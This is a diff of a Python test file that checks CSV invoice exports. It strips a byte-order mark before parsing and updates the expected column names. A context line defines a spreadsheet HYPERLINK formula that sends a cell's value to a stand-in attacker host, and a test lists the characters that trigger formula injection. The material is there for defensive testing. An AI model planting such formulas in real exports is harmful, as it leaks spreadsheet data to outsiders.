@@ -32,7 +32,8 @@ REF = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
 def _rows(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text)))
+    """A CSV as a spreadsheet reads it: the UTF-8 byte-order mark (for Excel) is not a cell."""
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@@ -109,9 +110,9 @@ def test_invoice_csv_keeps_its_numbers(
         )
     text = client.get(f"{API}/invoices/{invoice.id}/export?format=csv&lang=en", headers=headers_for("admin"))
     rows = _rows(text.text)
-    assert rows[0] == ["Item", "Description", "Quantity", "Unit price", "Amount"]
+    assert rows[0] == ["Charge", "Description", "Quantity", "Unit price", "Amount"]
     assert (
-        rows[1][0] == "storage" and rows[1][4] == "1800.00" and rows[-1] == ["Total", "", "", "", "1800.00"]
+        rows[1][0] == "Storage" and rows[1][4] == "1800.00" and rows[-1] == ["Total", "", "", "", "1800.00"]
     )
 
 
